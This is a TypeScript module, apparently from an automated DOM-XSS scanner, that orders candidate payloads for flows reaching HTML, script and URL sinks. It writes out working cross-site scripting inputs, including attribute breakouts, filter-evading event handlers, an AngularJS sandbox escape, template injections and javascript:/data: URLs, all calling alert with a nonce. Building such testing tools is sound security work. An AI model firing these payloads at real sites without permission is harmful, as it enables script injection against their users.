import type { SinkCall } from '../../model/browser.ts';
import { reflectionsOf } from '../dom/reflection.ts';
import { call, spelledCall } from '../dom/script-calls.ts';
import { type ScriptState, scriptStateAt } from '../dom/script-state.ts';
import { templatePayloads } from '../dom/template-payloads.ts';
import { endOf, endOfValue, type Payload, payloadsFor } from '../dom/xss-payloads.ts';
import type { Flow } from './dom-flow.ts';

/** Values to try for a flow, the likeliest first. */
export function payloadsOf({ entrance, word, call, libraries = [] }: Flow): Payload[] {
  switch (call.kind) {
    case 'html':
      return withTemplates(libraries, inParts(entrance, markupPayloads(call, word)));
    case 'code':
      return codePayloads(call, word);
    case 'address':
      return isWhole(call, word, entrance.pageUrl) ? addressPayloads(call, new URL(entrance.pageUrl).origin) : [];
  }
}

/** What reads a fragment in parts takes a slash for the end of one: values without one come soon. */
function inParts(entrance: Flow['entrance'], payloads: readonly Payload[]): readonly Payload[] {
  if (entrance.in !== 'fragment' || !entrance.before.endsWith('/')) return payloads;
  const [first, ...others] = payloads;
  const hasSlash = ({ value }: Payload) => Number(value.includes('/'));
  return first ? [first, ...others.toSorted((a, b) => hasSlash(a) - hasSlash(b))] : [];
}

/** AngularJS compiles what is in the page, and says nothing of it until there is an expression. */
function withTemplates(libraries: readonly string[], payloads: readonly Payload[]): Payload[] {
  const isCompiled = libraries.some((library) => library.startsWith('angularjs '));
  const more = isCompiled ? templatePayloads({ kind: 'text' }, libraries) : [];
  return [...payloads.slice(0, 1), ...more, ...payloads.slice(1)];
}

/** What Vue makes of a template. */
const compiledTemplate =
  /\bwith\s?\(|\b_(?:createElementVNode|createElementBlock|createTextVNode|toDisplayString|openBlock|c|v)\b/;

/** What AngularJS makes of an expression, and Knockout of the bindings in an attribute, which are plain script. */
const compiledExpression = /\bfn=function\(s,l,a,i\)/;
const boundExpression = /\bwith\(\$context\)/;

/** What Lodash, Underscore and doT make of one: texts that are put together, in which signs of code are escaped. */
const writtenTemplate = /\b__p\s*\+?=|\bvar out\s*=\s*['"]/;
const inWrittenTemplate: readonly Payload[] = [
  { value: `<%=${call}%>` },
  { value: `\${${call}}` },
  { value: `{{=${call}}}` },
];

/** Pieces that are written one by one look like text, and stand in an attribute. */
const outOfAttribute: Payload = { value: `'"><img src=x onerror=alert(/‹nonce›/.source)>` };

/** Without angle brackets: handlers of what may have the focus, and of what is loaded; these are apart, as values may be cut short. */
const handlersBehind = (quote: '"' | "'" | ''): Payload[] =>
  [`tabindex=1 autofocus onfocus=${call}`, `onload=${call} onerror=${call}`].map((handlers) => ({
    value: `${endOfValue(quote)} ${handlers} x=${quote}`,
  }));

/** What runs by itself, of elements that lists of dangerous ones leave out, behind signs for filters that replace the first of each. */
const pastLists = `<><details open ontoggle=${call}><video><source onerror=${call}></video><b tabindex=1 autofocus onfocus=${call}>‹nonce›</b>`;

function markupPayloads({ sink, text }: SinkCall, word: string): Payload[] {
  const reflections = reflectionsOf(text, word);
  const payloads = reflections.flatMap(payloadsFor);
  const written = sink.startsWith('document.write');
  const inElement = reflections.flatMap((each) => (each.kind === 'attribute' ? handlersBehind(each.quote) : []));
  if (written) return [...payloads.slice(0, 2), outOfAttribute, ...inElement, ...payloads.slice(2)];
  // Neither scripts nor the load event of SVG run in markup that is put in: HTML Standard §13.4 and §4.12.1.
  const isRun = ({ value }: Payload) => !/<script|<svg/i.test(value) || value.includes('<img');
  const [first, ...others] = payloads
    .filter(isRun)
    .toSorted((a, b) => Number(b.value.includes('<img')) - Number(a.value.includes('<img')));
  const ends = new Set(reflections.flatMap((each) => endOf(each) ?? []));
  return first ? [first, ...[...ends].map((end) => ({ value: end + pastLists })), ...others] : [];
}

function codePayloads({ sink, element, text }: SinkCall, word: string): Payload[] {
  if (sink === 'Function' && writtenTemplate.test(text)) return [...inWrittenTemplate];
  if (sink === 'Function' && compiledExpression.test(text))
    return [{ value: "constructor.constructor('alert(/‹nonce›/.source)')()" }];
  if (sink === 'Function' && !boundExpression.test(text) && compiledTemplate.test(text))
    return templatePayloads({ kind: 'text' }, []);
  const state = scriptStateAt(text, text.indexOf(word));
  // A handler waits for its event.
  const clicks = sink.startsWith('on') && element !== '' ? { clicks: [`${element}[${sink}*="‹nonce›"]`] } : {};
  return codeAt(state).map((each) => ({ ...each, ...clicks }));
}

function codeAt(state: ScriptState): Payload[] {
  const payloads = payloadsFor({ kind: 'script', state }).filter(({ value }) => !value.includes('</script'));
  // Behind a dot stands a name.
  return state === 'code'
    ? [...payloads.slice(0, 1), { value: `x;${call}//` }, { value: spelledCall }, ...payloads.slice(1)]
    : payloads;
}

/** Only who says where an address begins says its scheme. */
const isWhole = ({ sink, text }: SinkCall, word: string, pageUrl: string): boolean =>
  sink === 'location' ? URL.parse(word, pageUrl)?.href === text : text.trim().startsWith(word);

function addressPayloads({ sink, element }: SinkCall, origin: string): Payload[] {
  // Browsers drop blanks before an address, and filters drop a scheme once.
  if (element === 'script')
    return ['', ' ', 'data:'].map((before) => ({ value: `${before}data:text/javascript,${call}//` }));
  // What is loaded is put into the page, or run as a script; jQuery takes what follows a space for a selector.
  if (sink === 'fetch' || sink === 'XMLHttpRequest')
    return [{ value: `data:text/html,<img/src/onerror=${call}>` }, { value: `data:text/javascript,${call}//` }];
  const [first, ...others] = payloadsFor({ kind: 'url', quote: '', element: element || 'iframe', attribute: sink });
  const clicked = first?.clicks ? { clicks: first.clicks } : {};
  const payloads = [
    ...(first ? [first] : []),
    { value: `javascript:${call}//${origin}/https://`, ...clicked },
    ...others,
  ];
  return element === 'button'
    ? payloads.map((each) => ({ ...each, clicks: ['button[formaction*="‹nonce›"]'] }))
    : payloads;
}
